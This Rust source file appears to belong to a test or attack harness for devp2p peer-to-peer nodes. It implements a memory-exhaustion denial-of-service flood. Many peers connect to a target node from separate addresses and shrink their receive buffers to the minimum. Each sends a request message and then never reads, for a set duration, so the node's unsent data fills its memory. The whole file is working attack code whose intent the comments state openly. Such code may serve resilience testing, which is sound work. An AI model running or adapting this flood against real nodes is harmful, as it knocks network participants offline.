//! Peers that ask for messages without end and never read one.
//! The fewest buffers of the system stand between them and the node.

use std::{future::pending, net::Ipv4Addr, time::Duration};

use bytes::Bytes;
use devp2p::identity::Enode;
use interop::{
    Result,
    flood::{Client, POUR, attacker, socket},
};
use tokio::time::timeout;

use super::{Attack, crowd::gather, ready};

/// Bytes that the system takes for a peer that does not read: the fewest, so that they fill the node's memory and not the
/// system's.
const RECEIVE_BUFFER: u32 = 4_096;

pub(super) async fn run(attack: &Attack, count: u32) -> Result<()> {
    let mut peers = gather(count, |number| stuck(attacker(number), attack.target.clone())).await?;
    ready()?;
    for peer in &mut peers {
        peer.send(POUR, Bytes::from_static(b"\x80")).await?;
    }
    println!("{} peers ask", peers.len());
    // They hold their sockets and do nothing.
    let _ = timeout(Duration::from_secs(attack.seconds.into()), pending::<()>()).await;
    println!("{} peers were deaf for {} s", peers.len(), attack.seconds);
    Ok(())
}

/// A peer for whom the system takes as little as it can.
pub(super) async fn stuck(from: Ipv4Addr, target: Enode) -> Result<Client> {
    let socket = socket(from)?;
    socket.set_recv_buffer_size(RECEIVE_BUFFER)?;
    Client::connect_by(socket, &target).await
}
